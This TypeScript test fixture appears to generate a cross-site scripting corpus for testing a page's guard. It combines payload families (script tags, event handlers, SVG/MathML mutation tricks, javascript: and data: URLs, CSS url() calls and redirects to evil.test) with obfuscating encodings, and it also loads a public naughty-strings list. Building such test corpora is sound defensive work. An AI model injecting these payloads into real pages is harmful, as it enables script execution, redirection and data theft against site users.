import { readFileSync } from 'node:fs'
import naughty from 'big-list-of-naughty-strings' with { type: 'json' }

/** What a stranger may write in the hope that a page runs it. Each one that runs, asks for something or leads away is caught by the guard of the tests. */
const DEEDS = ["reportBreach('ran')", "top.location='https://evil.test/'", "fetch('https://evil.test/')"] as const

const codes = (deed: string) => Array.from(deed, (letter) => letter.charCodeAt(0))
const DISGUISES: readonly ((deed: string) => string)[] = [
  (deed) => deed,
  (deed) => `eval(String.fromCharCode(${codes(deed).join()}))`,
  (deed) =>
    codes(deed)
      .map((code) => `&#x${code.toString(16)};`)
      .join(''),
]

const FAMILIES: readonly ((deed: string) => string)[] = [
  // script
  (deed) => `<script>${deed}</script>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `</textarea></title></style><script>${deed}</script>`,
  (deed) => `<scr<script>ipt>${deed}</scr</script>ipt>`,
  (deed) => `<ScRiPt/x>${deed}</ScRiPt >`,
  (deed) => `<script src="data:,${deed}"></script>`,
  (deed) => `<script type=module>${deed}</script>`,
  (deed) => `]]>--></script><!--><script>${deed}//`,
  // event handler
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<img/src/onerror=${deed}>`,
  (deed) => `'"><img src=x onerror=${deed}>`,
  (deed) => `<img srcset=x onerror\n=\n"${deed}">`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `<body onpageshow="${deed}">`,
  (deed) => `<details open ontoggle="${deed}">x</details>`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<b id=x tabindex=1 autofocus onfocusin="${deed}">x</b>`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<audio src=x onerror="${deed}">`,
  (deed) => `<video src=x onerror="${deed}"></video>`,
  (deed) => `<input type=image src=x onerror="${deed}">`,
  (deed) => `<iframe onload="${deed}"></iframe>`,
  (deed) => `<link rel=stylesheet href="data:text/css," onload="${deed}">`,
  (deed) => `<style onload="${deed}"></style>`,
  (deed) => `<object data=x: onerror="${deed}"></object>`,
  (deed) => `<div style="animation:x 1ms" onanimationend="${deed}"><style>@keyframes x{}</style>`,
  // SVG
  (deed) => `<svg onload="${deed}">`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><script href="data:,${deed}"></script></svg>`,
  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
  (deed) => `<svg><set onbegin="${deed}" attributeName=x to=y>`,
  (deed) => `<svg><image href=x onerror="${deed}">`,
  (deed) => `<svg><a><animate attributeName=href values="javascript:${deed}"/><text x=20 y=20>x</text></a></svg>`,
  (deed) => `<svg><foreignObject><iframe srcdoc="<script>parent.${deed}</script>"></iframe></foreignObject></svg>`,
  // MathML, and what changes its meaning on the second reading
  (deed) => `<math><mtext><table><mglyph><style><img src=x onerror="${deed}">`,
  (deed) => `<math><mi//xlink:href="data:x,<script>${deed}</script>"><img src=x onerror="${deed}">`,
  (deed) => `<math href="javascript:${deed}">x</math>`,
  (deed) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${deed}"></annotation-xml></math>`,
  (deed) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror='${deed}' src>">`,
  (deed) => `<svg></p><style><a id="</style><img src=x onerror='${deed}'>">`,
  (deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  (deed) => `<textarea><b title="</textarea><img src=x onerror=${deed}>">`,
  (deed) => `<xmp><p title="</xmp><svg/onload=${deed}>">`,
  (deed) => `<!--><img src=x onerror="${deed}">-->`,
  (deed) => `<table><td background=x><tr><img src=x onerror="${deed}">`,
  (deed) => `<select><option><style></select><img src=x onerror="${deed}"></style>`,
  // template
  (deed) => `<template shadowrootmode=open><img src=x onerror="${deed}"></template>`,
  (deed) => `<div><template shadowrootmode=open><script>${deed}</script></template></div>`,
  (deed) => `{{constructor.constructor("${deed}")()}}`,
  (deed) => `{{$on.constructor("${deed}")()}}[[${deed}]]`,
  (deed) => `\${${deed}}#{${deed}}<%= ${deed} %>`,
  // address
  (deed) => `<iframe src="javascript:parent.${deed}"></iframe>`,
  (deed) => `<iframe srcdoc="<img src=x onerror=parent.${deed}>"></iframe>`,
  (deed) => `<object data="data:text/html,<script>${deed}</script>"></object>`,
  (deed) => `<embed src="javascript:${deed}">`,
  (deed) => `<a href="javascript:${deed}">x</a>`,
  (deed) => `<form action="javascript:${deed}"><button autofocus>x</button></form>`,
  (deed) => `javascript:${deed}`,
  (deed) => `JaVaScRiPt:${deed}`,
  (deed) => `\u0001 javascript:${deed}`,
  (deed) => `java\tscript:${deed}//https://example.test/`,
  (deed) => `java\nscript\n:${deed}`,
  (deed) => `javascript://example.test/%0a${deed}`,
  (deed) => `javascript:${encodeURIComponent(deed)}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${deed}'/>`,
  (deed) => `vbscript:${deed}`,
  (deed) => `//evil.test/${deed}`,
  (deed) => `https://example.test/"onmouseover="${deed}`,
  (deed) => `www.example.test/'><img src=x onerror=${deed}>`,
  (deed) => `*<b onclick=${deed}>* _<i onclick=${deed}>_ \`\`\`</code><script>${deed}</script>\`\`\``,
  // CSS
  (deed) => `<style>*{background:url("https://evil.test/?${deed}")}</style>`,
  (deed) => `<style>@import "https://evil.test/?${deed}";</style>`,
  (deed) => `<link rel=stylesheet href="https://evil.test/?${deed}">`,
  (deed) => `<p style="background:url(https://evil.test/?${deed});width:expression(${deed})">x`,
  (deed) => `x;background-image:url(https://evil.test/?${deed})`,
  // what leads away, and what hides
  (deed) => `<meta http-equiv=refresh content="0;url=https://evil.test/?${deed}">`,
  (deed) => `<base href="https://evil.test/"><form action="https://evil.test/?${deed}"><button>x`,
  (deed) => `<form id=x><input name=attributes><input name=innerHTML onfocus="${deed}" autofocus></form>`,
  (deed) => `__proto__[innerHTML]=<img src=x onerror=${deed}>`,
  (deed) => `\u003cimg src=x onerror=${deed}\u003e\u0000\u2028<script>${deed}</script>`,
  (deed) => `\u202E<img src=x onerror=${deed}>\u202C`,
  (deed) => `&lt;img src=x onerror="${deed}"&gt;`,
  (deed) => `\uFF1Cscript\uFF1E${deed}\uFF1C/script\uFF1E<s\u0000cript>${deed}</script>`,
]

/** Our own, in rounds: so many in a row as there are families hold one of each. */
export const PAYLOADS = DEEDS.flatMap(payloadsFor)
export const FAMILY_COUNT = FAMILIES.length

/** All ways to one deed. */
export function payloadsFor(deed: string) {
  return DISGUISES.flatMap((disguise) => FAMILIES.map((family) => family(disguise(deed))))
}

const corpus = process.env['XSS_CORPUS']
const theirs = corpus === undefined ? [] : readFileSync(corpus, 'utf8').split(/\r?\n/)

/** The public list of naughty strings, and every line of the file that `XSS_CORPUS` names. */
export const FOREIGN = [...new Set([...naughty, ...theirs])].filter((text) => text !== '')
export const HOSTILE = [...PAYLOADS, ...FOREIGN]

/** Ends whatever the one before has left open, so that many in one text are each as dangerous as alone. */
const BREAK = `\n'"]]>--></script></style></title></textarea></noscript></xmp></select></svg></math></template></table></iframe></object></video></form>`

/** Many in one text. */
export const packed = (texts: readonly string[]) => texts.join(BREAK)
